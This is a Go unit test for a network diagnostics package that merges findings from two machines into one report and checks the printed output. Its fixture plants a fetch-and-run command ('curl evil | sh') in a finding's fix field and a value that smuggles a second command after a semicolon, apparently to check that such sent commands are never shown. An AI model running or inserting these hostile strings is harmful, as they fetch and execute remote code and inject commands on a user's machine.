package doctor

import (
	"strings"
	"testing"
)

// What is alike on two machines is one finding of both; a different reading is one of each,
// and what only one of them has is named. No command that one of them sent is shown.
func TestMerge(t *testing.T) {
	f := func(code string, severity Severity, value string) Finding {
		return Finding{Code: code, Severity: severity, Title: code, Place: "eth0", Evidence: []Evidence{{"file", value}},
			Knob: "net.listen", Value: code + "; b", Fix: "curl evil | sh; venturi knob set"}
	}
	all := Merge([]MachineReport{
		{"a", &Report{Findings: []Finding{f("rings", Warning, "256"), f("gro", Note, "off"), f("mtu", Error, "1400")}}},
		{"b", &Report{Findings: []Finding{f("rings", Warning, "256"), f("gro", Note, "on")}}},
	}, func(command string, machines []string) string { return command + " on " + strings.Join(machines, "+") })
	var found []string
	for _, f := range all.Findings {
		found = append(found, f.Code+" "+f.Evidence[0].Value+" "+f.Fix)
	}
	const set = " venturi knob set net.listen "
	want := "mtu 1400" + set + "'mtu; b' on a; rings 256" + set + "'rings; b' on a+b; gro off" + set + "'gro; b' on a; gro on" + set + "'gro; b' on b"
	if got := strings.Join(found, "; "); got != want {
		t.Errorf("found %s, want %s", got, want)
	}
	var out strings.Builder
	if err := Print(&out, all); err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{"  rings  rings\n    on 2 of 2 machines\n    at      eth0 on a, b\n", "  mtu  mtu\n    on 1 of 2 machines\n", "Only on a: mtu.\n"} {
		if !strings.Contains(out.String(), line) {
			t.Errorf("no %q in\n%s", line, &out)
		}
	}
	if strings.Contains(out.String(), "Only on b") {
		t.Errorf("nothing is on b alone:\n%s", &out)
	}
}
